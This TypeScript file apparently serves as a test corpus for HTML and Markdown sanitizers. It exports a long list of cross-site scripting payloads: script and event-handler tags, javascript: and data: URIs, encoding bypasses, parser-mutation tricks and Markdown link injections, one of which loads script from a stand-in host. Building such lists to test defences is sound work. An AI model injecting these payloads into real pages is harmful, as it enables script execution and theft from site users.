// Known attacks on pages that show what strangers write: markup, attributes, addresses, entities, encodings, mutation
// of markup by parsers, and those that need Markdown. One a line; a line break within one is written as ⏎.
const LIST = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//x.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)
<<SCRIPT>alert(1);//<</SCRIPT>
</script><svg onload=alert(1)>
<img src=x onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src="x"onerror=alert(1)//
<img src=javascript:alert(1)>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG SRC=" &#14; javascript:alert(1);">
<IMG DYNSRC="javascript:alert(1)">
<IMG LOWSRC="javascript:alert(1)">
<img/src/onerror=alert(1)>
<img src=1 oNeRrOr=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x">
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert(1)">
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<applet code="x"></applet>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<frameset onload=alert(1)>
<link rel=stylesheet href="javascript:alert(1)">
<link rel=import href=//x.example>
<base href="javascript:alert(1)//">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<style>body{background:url(//x.example)}</style>
<p style="background:url(javascript:alert(1))">x</p>
<div style="width:expression(alert(1))">
<xss style="xss:expression(alert(1))">
<x onclick=alert(1)>click
<x contenteditable onblur=alert(1)>
<button form=x formaction=javascript:alert(1)>x
<form action=javascript:alert(1)><input type=submit>
<form id=document><input name=cookie></form>
<a id=x name=getElementById href=#>x</a>
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<table background="javascript:alert(1)">
<xmp><img src=x onerror=alert(1)></xmp>
<listing><img src=x onerror=alert(1)></listing>
<plaintext>
<title><img src=x onerror=alert(1)></title>
<![CDATA[<script>alert(1)</script>]]>
<!--<img src="--><img src=x onerror=alert(1)//">
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<? echo('<script>alert(1)</script>') ?>
<!ENTITY x "<script>alert(1)</script>">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
\x3cscript\x3ealert(1)\x3c/script\x3e
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
"><img src=x onerror=alert(1)>
'-alert(1)-'
javascript:alert(1)
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))
[x](&#106;avascript:alert(1))
[x](\javascript:alert(1))
[x](<java⏎script:alert(1)>)
[x](java&Tab;script:alert(1))
[x](java&NewLine;script:alert(1))
[x](&#1;javascript:alert(1))
[x]( javascript:alert(1))
[x](javascript://x.example/%0Aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/svg+xml;base64,PHN2Zy8+)
[x](data:image/gif;base64,R0lGOD)
[x](//x.example)
[x](\\x.example)
[x](/\x.example)
[x](https:javascript:alert(1))
[x](https://x.example" onmouseover="alert(1))
[x](https://x.example 'title" onmouseover="alert(1)')
[x](https://x.example/"onclick="alert(1)")
[x](<https://x.example/"><script>alert(1)</script>>)
[x](https://x.example/'onclick='alert(1))
[x](mailto:a@b.example?subject="><script>alert(1)</script>)
[x](mailto:"onclick=alert(1)"@b.example)
[<img src=x onerror=alert(1)>](https://x.example)
[x" onclick="alert(1)](https://x.example)
![x" onerror="alert(1)](https://x.example)
![x](https://x.example"onerror="alert(1))
![x](javascript:alert(1))
![x](data:image/png;base64,x "title" onload="alert(1)")
![x](x:/ 'onerror=alert(1)')
<javascript:alert(1)>
<data:text/html,x>
<https://x.example"onclick="alert(1)>
<a@b"onclick="alert(1).example>
https://x.example/"onclick="alert(1)
https://x.example/<script>alert(1)</script>
https://x.example/&quot;onclick=&quot;alert(1)
www.x.example/"onclick="alert(1)
[x]⏎⏎[x]: javascript:alert(1)
[x]⏎⏎[x]: <javascript:alert(1)>
[x]⏎⏎[x]: https://x.example "title" onclick="alert(1)"
[__proto__]⏎⏎[__proto__]: javascript:alert(1)
[constructor] [toString] [hasOwnProperty]
~~~"onclick="alert(1)⏎x⏎~~~
~~~js"><script>alert(1)</script>⏎x⏎~~~
~~~⏎</code></pre><script>alert(1)</script>⏎~~~
    </code></pre><script>alert(1)</script>
${'`</code><script>alert(1)</script>`'}
${'``<img src=x onerror=alert(1)>``'}
1"onclick="alert(1). x
# <script>alert(1)</script>
> <img src=x⏎onerror=alert(1)>
- <iframe⏎  src="javascript:alert(1)">
*<b*onclick=alert(1)>
**[x](javascript:alert(1))**
[x](https://x.example)<!-- -->(javascript:alert(1))
[![x](javascript:alert(1))](javascript:alert(1))
[a](javascript:alert(1)//https://x.example)
| <script> |⏎|---|⏎| alert(1) |
`;

export const PAYLOADS: readonly string[] = LIST.trim()
  .split('\n')
  .map((line) => line.replaceAll('⏎', '\n'));
